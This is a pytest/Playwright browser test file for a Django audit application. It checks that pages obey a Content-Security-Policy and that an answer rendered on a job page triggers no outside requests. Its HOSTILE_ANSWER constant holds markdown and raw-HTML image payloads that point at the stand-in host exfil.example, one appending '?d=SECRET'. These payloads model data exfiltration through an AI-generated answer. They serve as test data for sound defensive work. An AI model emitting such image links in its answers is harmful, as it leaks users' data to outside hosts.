"""In Debian's Chromium: pages work under the Content-Security-Policy without one violation, and a job page
whose answer holds a remote image sends no request to that image's host."""

from __future__ import annotations

import re

import pytest
from django.contrib.auth.models import User
from playwright.sync_api import Browser, ConsoleMessage, Page, Request

from audit_app.models import Job, Team
from audit_app.services.submission import submit_job
from tests.factories import FinishedJobFactory
from tests.people import make_user

pytestmark = pytest.mark.django_db(transaction=True)
HOSTILE_ANSWER = """Yes. ![chart](http://exfil.example/c.png?d=SECRET)

![ref][r] <http://exfil.example/auto> [statute](http://exfil.example/law) <img src="http://exfil.example/raw.png">

[r]: http://exfil.example/ref.png
"""


class Watched:
    """A page with every request URL and every console message it produced."""

    def __init__(self, page: Page) -> None:
        self.page, self.requests, self.console = page, list[str](), list[str]()
        page.on("request", lambda request: self.requests.append(request_url(request)))
        page.on("console", lambda message: self.console.append(console_text(message)))
        page.on("pageerror", lambda error: self.console.append(f"page error: {error}"))

    def csp_violations(self) -> list[str]:
        return [text for text in self.console if "Content Security Policy" in text or "page error" in text]


def request_url(request: Request) -> str:
    return request.url


def console_text(message: ConsoleMessage) -> str:
    return f"{message.type}: {message.text}"


def logged_in(browser: Browser, base_url: str, username: str) -> Watched:
    watched = Watched(browser.new_page())
    watched.page.goto(f"{base_url}/login/")
    watched.page.fill("#id_username", username)
    watched.page.fill("#id_password", "pw-" + username)
    watched.page.click("button[type=submit]")
    # Everyone lands on the job list; an operator, in no team, on every job's metadata.
    watched.page.wait_for_url(re.compile(rf"{re.escape(base_url)}/(operator/jobs/)?$"))
    return watched


def test_a_remote_image_in_an_answer_is_never_requested(live_server, browser: Browser, analyst: User, team: Team):
    job = FinishedJobFactory(submitter=analyst, team=team, answer=HOSTILE_ANSWER)
    watched = logged_in(browser, live_server.url, "alice")
    watched.page.goto(f"{live_server.url}/jobs/{job.pk}/")
    watched.page.wait_for_load_state("networkidle")
    answer = watched.page.locator(".answer").inner_text()
    assert "[image: chart — http://exfil.example/c.png?d=SECRET]" in answer
    assert '<img src="http://exfil.example/raw.png">' in answer  # raw HTML is shown as text
    assert [url for url in watched.requests if "exfil.example" in url] == []
    assert all(url.startswith(live_server.url) for url in watched.requests)
    assert watched.csp_violations() == []


def test_htmx_polls_and_reloads_under_the_policy(live_server, browser: Browser, analyst: User, team: Team):
    job = submit_job(analyst, team, "C-1", "legal", "Queued while we watch?")
    watched = logged_in(browser, live_server.url, "alice")
    watched.page.goto(f"{live_server.url}/jobs/{job.pk}/")
    with watched.page.expect_request(f"**/jobs/{job.pk}/live/"):  # htmx runs and polls
        pass
    Job.objects.filter(pk=job.pk).update(status=Job.CANCELLED)
    watched.page.get_by_text("No run was recorded").wait_for(timeout=15_000)  # HX-Refresh reloaded the page
    watched.page.goto(f"{live_server.url}/jobs/new/")
    watched.page.goto(f"{live_server.url}/")
    assert watched.page.locator("style").count() == 0  # htmx added no indicator style
    assert watched.csp_violations() == []


def test_auditor_and_operator_pages_work_under_the_policy(live_server, browser: Browser, db, control_worker):
    make_user("audrey", "auditor", None)
    make_user("oscar", "operator", None)
    auditor = logged_in(browser, live_server.url, "audrey")
    auditor.page.goto(f"{live_server.url}/auditor/ledger/")
    auditor.page.click("button:has-text('Verify the whole ledger now')")
    auditor.page.get_by_text("Ledger verified").wait_for(timeout=90_000)  # the control worker runs it; htmx polls
    operator = logged_in(browser, live_server.url, "oscar")
    operator.page.goto(f"{live_server.url}/operator/kill-switch/")
    operator.page.fill("#id_reason", "Drill")
    operator.page.click("button:has-text('Suspend inference')")
    operator.page.get_by_text("Inference is suspended since").wait_for()
    assert auditor.csp_violations() == operator.csp_violations() == []
